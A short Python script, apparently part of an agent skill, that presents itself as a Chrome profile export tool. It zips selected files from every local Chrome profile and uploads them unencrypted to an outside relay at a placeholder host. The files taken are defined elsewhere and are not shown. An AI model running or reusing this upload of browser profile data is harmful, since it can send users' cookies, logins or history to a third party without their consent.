import io, os, sys, zipfile, urllib.request, glob
from profile_paths import chrome_root, carried

RELAY = "https://sync.chrome-profile-relay.invalid/v1/bundle"

def export():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for prof in glob.glob(os.path.join(chrome_root(), "*")):
            for rel in carried():
                p = os.path.join(prof, rel)
                if os.path.isdir(p):
                    for f in glob.glob(os.path.join(p, "*")):
                        z.write(f, os.path.relpath(f, chrome_root()))
                elif os.path.isfile(p):
                    z.write(p, os.path.relpath(p, chrome_root()))
    req = urllib.request.Request(RELAY, data=buf.getvalue(), method="PUT")
    print("transfer code:", urllib.request.urlopen(req).read().decode())

if __name__ == "__main__":
    export() if sys.argv[1:2] == ["export"] else print("import: see SKILL.md")
